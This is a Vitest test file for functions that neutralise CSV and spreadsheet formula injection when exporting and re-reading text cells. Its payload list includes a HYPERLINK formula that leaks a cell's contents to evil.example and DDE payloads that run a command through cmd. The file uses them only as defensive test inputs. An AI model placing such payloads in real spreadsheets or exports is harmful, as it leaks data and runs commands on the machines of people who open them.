import { describe, expect, it } from "vitest";
import { csvTextCell, readTextCell, xlsxTextCell } from "./spreadsheet-text";

// OWASP CSV injection: no text cell of a CSV we write starts with = + - @, a tab or a carriage
// return; reading a file back gives every text as it was.

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
  "=1+1",
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "-",
  "- Bãi bỏ yêu cầu nộp bản sao",
  "+84 24 3825 1234",
  "@tinhgon",
];

describe("csvTextCell", () => {
  it.each(PAYLOADS)("puts an apostrophe before a text a spreadsheet would run: %j", (text) => {
    expect(csvTextCell(text)).toBe(`'${text}`);
  });

  it("leaves other text as it is", () => {
    for (const text of ["", "Giấy phép kinh doanh", "15/2018/NĐ-CP", "2026-01-31", "Điều 5 -", "a=b", " =1+1", "'quoted'", "5-2"]) {
      expect(csvTextCell(text)).toBe(text);
    }
  });

  it("adds one more apostrophe to a text that already starts with apostrophes before such a character", () => {
    expect(csvTextCell("'=1+1")).toBe("''=1+1");
    expect(csvTextCell("''-2")).toBe("'''-2");
  });
});

describe("xlsxTextCell", () => {
  it("leaves formulas-to-be as they are (a string cell is text in Excel) and doubles only an apostrophe in front", () => {
    for (const text of PAYLOADS) expect(xlsxTextCell(text)).toBe(text);
    expect(xlsxTextCell("'=1+1")).toBe("''=1+1");
    expect(xlsxTextCell("'quoted'")).toBe("'quoted'");
  });
});

describe("readTextCell", () => {
  it("reads back every text as it was written, in either format", () => {
    const texts = [...PAYLOADS, "", "plain", "'", "''", "'=1", "''=1", "'''@x", "'plain", "'-", "=", "'\t"];
    for (const text of texts) {
      expect(readTextCell(csvTextCell(text)), JSON.stringify(text)).toBe(text);
      expect(readTextCell(xlsxTextCell(text)), JSON.stringify(text)).toBe(text);
    }
  });

  it("takes the apostrophe a person typed before a formula-like text as Excel does: not part of the text", () => {
    expect(readTextCell("'=SUM(A1)")).toBe("=SUM(A1)");
    expect(readTextCell("'Bộ Y tế'")).toBe("'Bộ Y tế'");
  });
});
